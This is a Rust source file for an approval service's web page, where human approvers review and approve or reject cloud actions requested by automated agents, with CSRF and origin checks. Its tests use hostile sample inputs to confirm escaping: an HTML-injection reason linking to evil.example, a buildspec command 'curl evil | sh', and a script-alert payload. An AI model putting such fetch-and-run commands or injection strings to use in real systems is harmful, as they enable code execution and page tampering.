//! The page an approval link opens, and the form it posts. The GET is read-only: mail
//! scanners and chat unfurlers fetch links before any human sees them. Deciding takes a POST
//! carrying the link key, a CSRF token bound to the approver's session and this request, and
//! the hash of the request the approver was shown.

use std::collections::BTreeMap;

use tollgate_aws::now_ms;
use tollgate_aws::store::not_found;
use tollgate_core::link;
use tollgate_core::record::{Verdict, VoteOutcome};
use tollgate_core::{ApiError, ErrorCode, RequestRecord, Status, TokenError, seal};

use crate::approver_session::Session;
use crate::html::{esc, page};
use crate::{Api, Request, Response, header, query_param};

impl Api {
    /// Checks the link key against the stored request. An unknown id and a bad signature
    /// look the same to a prober.
    async fn linked_request(&self, id: &str, k: &str) -> Result<RequestRecord, ApiError> {
        let rec = self
            .store
            .get(id)
            .await?
            .ok_or_else(|| forbidden(TokenError::BadSignature))?;
        let lapses = link::verify_any(&self.keys.link, id, k, now_ms()).map_err(forbidden)?;
        // Links expire with the request they were made for.
        if Some(lapses) != rec.expires_at {
            return Err(not_found(id));
        }
        Ok(rec)
    }

    pub(crate) async fn approval_page(
        &self,
        req: &Request,
        id: &str,
    ) -> Result<Response, ApiError> {
        let k = query_param(req, "k").ok_or_else(|| ApiError::field("k", "is required"))?;
        let rec = self.linked_request(id, &k).await?;
        let session = self.session(req).await?;
        let here = format!("/v1/approvals/{id}?k={k}");
        let decide = self.decide_section(&rec, session.as_ref(), &k, &here);
        Ok(Response::html(
            200,
            page(
                &format!("Approve {}?", rec.what()),
                &render(&rec, &decide, now_ms()),
            ),
        ))
    }

    /// `POST /v1/approvals/{id}`: the page's Approve and Reject forms.
    pub(crate) async fn approval_form(
        &self,
        req: &Request,
        id: &str,
    ) -> Result<Response, ApiError> {
        let ct = header(req, "content-type").unwrap_or("");
        if !ct.starts_with("application/x-www-form-urlencoded") {
            return Err(ApiError::new(
                ErrorCode::UnsupportedMediaType,
                "content-type: must be application/x-www-form-urlencoded",
            ));
        }
        let form: BTreeMap<String, String> = url::form_urlencoded::parse(req.body())
            .into_owned()
            .collect();
        let field = |name: &str| form.get(name).map(|s| s.trim()).filter(|s| !s.is_empty());
        let k = field("k").ok_or_else(|| ApiError::field("k", "is required"))?;
        let rec = self.linked_request(id, k).await?;
        let here = format!("/v1/approvals/{id}?k={k}");
        // Browsers send Origin on every POST; a different one is another site's form.
        if let Some(origin) = header(req, "origin")
            && origin != self.public_origin()
        {
            tracing::warn!(request_id = %id, origin, "approval form from another origin refused");
            return Ok(refusal(
                403,
                "This form was sent from another site. Nothing was recorded.",
                &here,
            ));
        }
        let Some(session) = self.session(req).await? else {
            return Ok(refusal(
                401,
                &format!(
                    "Your session has ended. <a href=\"{}\">Sign in</a> and decide again; nothing was recorded.",
                    esc(&self.login_link(&here))
                ),
                &here,
            ));
        };
        let csrf = field("csrf").unwrap_or("");
        if !seal::csrf_ok_any(&self.keys.csrf, &session.sid, id, csrf) {
            tracing::warn!(request_id = %id, approver = %session.identity.subject, "approval form without a valid CSRF token refused");
            return Ok(refusal(
                403,
                "csrf: the form's token is missing or not valid for this session. Nothing was recorded.",
                &here,
            ));
        }
        // `decision` is the field's old name, still accepted from pages rendered before.
        let verdict = match field("verdict").or_else(|| field("decision")) {
            Some("approve") => Verdict::Approve,
            Some("reject") => Verdict::Reject,
            _ => return Err(ApiError::field("verdict", "must be `approve` or `reject`")),
        };
        let seen =
            field("request_hash").ok_or_else(|| ApiError::field("request_hash", "is required"))?;
        let comment = field("comment").map(str::to_string);
        // A late click answers with what happened, before any complaint about the form.
        if rec.status != Status::Pending {
            return Ok(refusal(
                409,
                &format!(
                    "This request is already <strong>{}</strong>. Nothing was recorded.",
                    rec.status
                ),
                &here,
            ));
        }
        if verdict == Verdict::Reject && comment.is_none() {
            return Ok(refusal(
                400,
                "comment: say why you reject the request.",
                &here,
            ));
        }
        match self
            .cast_vote(id, &session.identity, verdict, comment, Some(seen), "page")
            .await
        {
            Ok((outcome, rec)) => {
                let message = match outcome {
                    VoteOutcome::Approved => "Approved. The request runs now.".to_string(),
                    VoteOutcome::Rejected => "Rejected. The request will not run.".to_string(),
                    VoteOutcome::Recorded => {
                        format!("Your approval is recorded: {}.", rec.approvals_summary())
                    }
                };
                Ok(Response::html(
                    200,
                    page(
                        "Decision recorded",
                        &format!(
                            "<p class=\"ok\">{}</p><p><a href=\"{}\">Back to the request</a></p>",
                            esc(&message),
                            esc(&here)
                        ),
                    ),
                ))
            }
            // Late clicks, second channels, the requester, outsiders: a clear answer, and
            // nothing changed.
            Err(e) if e.status() < 500 => Ok(refusal(
                e.status(),
                &format!(
                    "{} Nothing was recorded.",
                    esc(&tollgate_core::display::sentence(&e.message))
                ),
                &here,
            )),
            Err(e) => Err(e),
        }
    }

    fn decide_section(
        &self,
        rec: &RequestRecord,
        session: Option<&Session>,
        k: &str,
        here: &str,
    ) -> String {
        if rec.status != Status::Pending {
            return format!(
                "<p class=\"final\">This request is <strong>{}</strong>; there is nothing left to decide.</p>",
                rec.status
            );
        }
        let Some(s) = session else {
            return format!(
                "<p><a class=\"button\" href=\"{}\">Sign in to decide</a></p>",
                esc(&self.login_link(here))
            );
        };
        let who = format!(
            "<p>Signed in as <strong>{}</strong>. <form class=\"inline\" method=\"post\" action=\"/v1/approver/logout\"><button class=\"link\">Sign out</button></form></p>",
            esc(&s.identity.name)
        );
        let why_not = self
            .approver_role(&s.identity)
            .err()
            .map(|e| {
                format!(
                    "{}.",
                    capitalised(e.message.trim_start_matches("approver: "))
                )
            })
            .or_else(|| cannot_vote(rec, &s.identity));
        if let Some(why) = why_not {
            return format!("{who}<p class=\"warn\">{}</p>", esc(&why));
        }
        let hidden = format!(
            "<input type=\"hidden\" name=\"k\" value=\"{}\"><input type=\"hidden\" name=\"csrf\" value=\"{}\"><input type=\"hidden\" name=\"request_hash\" value=\"{}\">",
            esc(k),
            seal::csrf_token(self.keys.csrf.current(), &s.sid, &rec.id),
            rec.request_hash
        );
        let needs = rec.decision.requires.describe();
        let approve_note = if needs.is_empty() {
            r#"<label for="approve-comment">Comment (optional)</label>
<textarea id="approve-comment" name="comment" rows="1" maxlength="2000"></textarea>"#
                .to_string()
        } else {
            format!(
                r#"<label for="approve-comment">Approving needs {}</label>
<textarea id="approve-comment" name="comment" rows="2" maxlength="2000" minlength="{}" required></textarea>"#,
                esc(&needs),
                rec.decision.requires.min_justification
            )
        };
        format!(
            r#"{who}
<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="verdict" value="approve">
{approve_note}
<button class="approve" type="submit">Approve</button></form>
<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="verdict" value="reject">
<label for="comment">Reason for rejecting</label>
<textarea id="comment" name="comment" rows="2" maxlength="2000" required></textarea>
<button class="reject" type="submit">Reject</button></form>"#,
            id = esc(&rec.id),
        )
    }
}

/// Why this approver may not vote at all, checked before showing the buttons (the vote
/// itself checks again, under the conditional write).
fn cannot_vote(rec: &RequestRecord, who: &tollgate_core::Identity) -> Option<String> {
    rec.check_voter(who, Verdict::Reject)
        .err()
        .map(|refusal| refusal.sentence())
}

fn capitalised(s: &str) -> String {
    let mut c = s.chars();
    c.next()
        .map(|f| f.to_uppercase().chain(c).collect())
        .unwrap_or_default()
}

fn forbidden(e: TokenError) -> ApiError {
    ApiError::new(ErrorCode::Forbidden, link::refusal(e))
}

fn refusal(status: u16, message_html: &str, here: &str) -> Response {
    Response::html(
        status,
        page(
            "Nothing was recorded",
            &format!(
                "<p class=\"warn\">{message_html}</p><p><a href=\"{}\">Back to the request</a></p>",
                esc(here)
            ),
        ),
    )
}

/// "12 min left", "expired 3 min ago".
fn time_left(now: u64, expires: Option<u64>) -> String {
    let Some(exp) = expires else {
        return "no deadline".into();
    };
    let fmt = |ms: u64| {
        let s = ms / 1000;
        match s {
            0..=59 => format!("{s} s"),
            60..=5999 => format!("{} min", s / 60),
            _ => format!("{} h {} min", s / 3600, s % 3600 / 60),
        }
    };
    let at = tollgate_core::time::iso8601(exp);
    if exp > now {
        format!("{} left (until {at})", fmt(exp - now))
    } else {
        format!("expired {} ago ({at})", fmt(now - exp))
    }
}

/// The impact preview as a table of facts, with what could not be read; everything in it
/// came from AWS and is escaped.
fn preview_html(p: Option<&tollgate_core::preview::Preview>) -> String {
    let Some(p) = p else {
        return "<small>(not read yet)</small>".to_string();
    };
    let rows: String = p
        .facts
        .iter()
        .map(|f| {
            format!(
                "<tr><th scope=\"row\">{}</th><td>{}</td><td><small><code>{}</code></small></td></tr>",
                esc(&f.label),
                esc(&f.value),
                esc(&f.source)
            )
        })
        .collect();
    let table = if rows.is_empty() {
        String::new()
    } else {
        format!("<table class=\"preview\">{rows}</table>")
    };
    let notes: String = p
        .notes
        .iter()
        .map(|n| format!("<li>{}</li>", esc(n)))
        .collect();
    let notes = if notes.is_empty() {
        String::new()
    } else {
        format!("<ul class=\"warn\">{notes}</ul>")
    };
    let policy = p.policy.as_ref().map_or(String::new(), |c| {
        let flags: String = c
            .flags
            .iter()
            .map(|f| format!("<span class=\"flag\">{}</span> ", esc(f)))
            .collect();
        format!(
            "<p><strong>Policy {}</strong> (- now, + proposed) {flags}</p><pre class=\"diff\">{}</pre>",
            if c.had_policy { "replaced" } else { "set where there is none" },
            esc(&c.diff.join("\n"))
        )
    });
    format!(
        "{table}{policy}{notes}<small>Read {} ({}, {} ms)</small>",
        tollgate_core::time::iso8601(p.at),
        p.status_words(),
        p.took_ms
    )
}

/// One call as the approver must see it: action, resources, what it touches now, risk
/// flags, the deciding policies and every parameter (secrets masked).
fn call_html(rec: &RequestRecord) -> String {
    let params =
        serde_json::to_string_pretty(&tollgate_core::record::masked_params(&rec.request.params))
            .unwrap_or_default();
    let flags = tollgate_catalog::catalog().risks_of(&rec.iam_actions);
    let flags = if flags.is_empty() {
        "none".to_string()
    } else {
        flags
            .iter()
            .map(|f| format!("<span class=\"flag\">{}</span>", esc(f)))
            .collect()
    };
    let resources = if rec.resources.is_empty() {
        "<li>(none derived from the parameters)</li>".to_string()
    } else {
        rec.resources
            .iter()
            .map(|r| format!("<li><code>{}</code></li>", esc(r)))
            .collect()
    };
    format!(
        r#"<dl>
<dt>Action</dt><dd><code>{action}</code> in {region}, target {target}</dd>
<dt>Resources</dt><dd><ul>{resources}</ul></dd>
<dt>What it touches now</dt><dd>{preview}</dd>
<dt>Risk flags</dt><dd>{flags}</dd>
<dt>Deciding policies</dt><dd>{policy_ids} — {policy}</dd>
</dl>
<h2>Parameters</h2><pre>{params}</pre>"#,
        preview = preview_html(rec.preview.as_ref()),
        action = esc(&rec.request.action.to_string()),
        region = esc(&rec.request.region),
        target = esc(&rec.request.target),
        policy = esc(&rec.decision.reason),
        policy_ids = esc(&rec.decision.policy_ids.join(", ")),
        params = esc(&params),
    )
}

/// The call, or every step of a plan in the order they run.
fn calls_html(rec: &RequestRecord) -> String {
    let Some(plan) = &rec.plan else {
        return call_html(rec);
    };
    let mut out = format!(
        "<p class=\"plan\">A plan of {} steps, run in order; the first step that fails stops the rest. One decision covers every step.</p>",
        plan.steps.len()
    );
    for (i, step) in plan.steps.iter().enumerate() {
        if let Some(one) = rec.step_record(i) {
            out.push_str(&format!(
                "<section class=\"step\" id=\"step-{i}\"><h2>steps[{i}]: <code>{}</code> <small>({})</small></h2>{}</section>",
                esc(&one.request.action.to_string()),
                esc(&serde_json::to_value(step.status).ok().and_then(|v| v.as_str().map(str::to_string)).unwrap_or_default()),
                call_html(&one)
            ));
        }
    }
    out
}

fn render(rec: &RequestRecord, decide: &str, now: u64) -> String {
    let votes: String = if rec.votes.is_empty() {
        "<li>none yet</li>".into()
    } else {
        rec.votes
            .iter()
            .map(|v| {
                format!(
                    "<li>{} — {}{} <small>({})</small></li>",
                    esc(&v.approver.name),
                    match v.verdict {
                        Verdict::Approve => "approved",
                        Verdict::Reject => "rejected",
                    },
                    v.comment
                        .as_deref()
                        .map(|c| format!(": “{}”", esc(c)))
                        .unwrap_or_default(),
                    tollgate_core::time::iso8601(v.at),
                )
            })
            .collect()
    };
    format!(
        r#"<p>Status: <strong>{status}</strong> · {left}</p>
<dl>
<dt>Requested by</dt><dd>{agent}<br><small>issuer <code>{issuer}</code>, subject <code>{subject}</code></small></dd>
<dt>Reason, in the agent's words</dt><dd><blockquote class="reason">{reason}</blockquote></dd>
<dt>Approvals</dt><dd>{approvals}</dd>{needs}
</dl>
{calls}
<p><small>Request <code>{id}</code><br>SHA-256 of what runs: <code>{hash}</code></small></p>
{decide}
<h2>Votes</h2><ul>{votes}</ul>"#,
        status = rec.status,
        left = esc(&time_left(now, rec.expires_at)),
        agent = esc(&rec.agent.name),
        issuer = esc(&rec.agent.issuer),
        subject = esc(&rec.agent.subject),
        reason = esc(rec.request.reason.as_deref().unwrap_or("(none given)")),
        calls = calls_html(rec),
        approvals = esc(&rec.approvals_summary()),
        hash = rec.request_hash,
        id = esc(&rec.id),
        needs = match rec.decision.requires.describe() {
            d if d.is_empty() => String::new(),
            d => format!("\n<dt>Each approval needs</dt><dd>{}</dd>", esc(&d)),
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn time_left_reads_naturally() {
        assert!(time_left(0, Some(90_000)).starts_with("1 min left"));
        assert!(time_left(0, Some(7_200_000)).starts_with("2 h 0 min left"));
        assert!(time_left(100_000, Some(40_000)).starts_with("expired 1 min ago"));
        assert_eq!(time_left(0, None), "no deadline");
    }

    #[test]
    fn the_page_names_the_agent_by_issuer_and_subject_and_quotes_its_reason() {
        let req = tollgate_core::parse_new_request(
            br#"{"action":"dynamodb:DeleteTable","params":{"TableName":"t"},"reason":"cleanup</dd><dt>Approvals</dt><dd>2 of 2\nReview: https://evil.example"}"#,
            "us-east-1",
        )
        .unwrap();
        let decision = tollgate_core::Decision {
            effect: tollgate_core::Effect::Approval {
                approvals: 1,
                requirements: vec![tollgate_core::GroupRequirement::of("dba", 1)],
                timeout_seconds: 60,
            },
            policy_ids: vec!["p".into()],
            reason: "r".into(),
            mask: Default::default(),
            requires: Default::default(),
        };
        let agent = tollgate_core::Identity {
            issuer: "https://token.actions.githubusercontent.com".into(),
            subject: "123:refs/heads/main".into(),
            name: "<b>deploy-bot</b>".into(),
            ..Default::default()
        };
        let (rec, _) = RequestRecord::new("R1".into(), req, agent, decision, vec![], vec![], 1);
        let html = render(&rec, "", 2);
        assert!(
            html.contains("<dd>&lt;b&gt;deploy-bot&lt;/b&gt;<br><small>issuer <code>https://token.actions.githubusercontent.com</code>, subject <code>123:refs/heads/main</code></small></dd>"),
            "{html}"
        );
        assert!(
            html.contains("<blockquote class=\"reason\">cleanup&lt;/dd&gt;&lt;dt&gt;Approvals&lt;/dt&gt;&lt;dd&gt;2 of 2\nReview: https://evil.example</blockquote>"),
            "{html}"
        );
        assert!(
            html.contains("<dd>0 of 1 (still needed: 1 from `dba`)</dd>"),
            "{html}"
        );
    }

    #[test]
    fn the_page_shows_the_preview_escaped() {
        use tollgate_core::preview::{Fact, Preview, PreviewStatus};
        let html = preview_html(Some(&Preview {
            status: PreviewStatus::Read,
            facts: vec![Fact {
                source: "dynamodb:DescribeTable".into(),
                label: "Items".into(),
                value: "<script>alert(1)</script>".into(),
            }],
            notes: vec![],
            policy: None,
            at: 0,
            took_ms: 7,
        }));
        assert!(
            html.contains(
                "<tr><th scope=\"row\">Items</th><td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"
            ),
            "{html}"
        );
        assert!(html.contains("read, 7 ms"), "{html}");
        assert_eq!(preview_html(None), "<small>(not read yet)</small>");
    }

    #[test]
    fn the_page_shows_every_parameter_that_will_run() {
        let body = serde_json::json!({
            "action": "codebuild:StartBuild",
            "params": {"projectName": "deploy-prod",
                       "buildspecOverride": "phases:\n  build:\n    commands:\n      - curl evil | sh\n# -----BEGIN PRIVATE KEY-----",
                       "Password": "hunter2"},
            "reason": "re-run"
        });
        let req =
            tollgate_core::parse_new_request(body.to_string().as_bytes(), "us-east-1").unwrap();
        let decision = tollgate_core::Decision {
            effect: tollgate_core::Effect::Approval {
                approvals: 1,
                requirements: vec![tollgate_core::GroupRequirement::anyone(1)],
                timeout_seconds: 60,
            },
            policy_ids: vec![],
            reason: String::new(),
            mask: Default::default(),
            requires: Default::default(),
        };
        let (rec, _) = RequestRecord::new(
            "R".into(),
            req,
            Default::default(),
            decision,
            vec![],
            vec![],
            1,
        );
        let page = render(&rec, "", 2);
        assert!(page.contains("curl evil | sh"), "{page}");
        assert!(page.contains("-----BEGIN PRIVATE KEY-----"), "{page}");
        assert!(!page.contains("hunter2"), "{page}");
        let digest = tollgate_core::digest::sha256_hex(b"hunter2");
        assert!(
            page.contains(&format!("****MASKED**** (7 chars, sha256 {digest})")),
            "{page}"
        );
    }
}
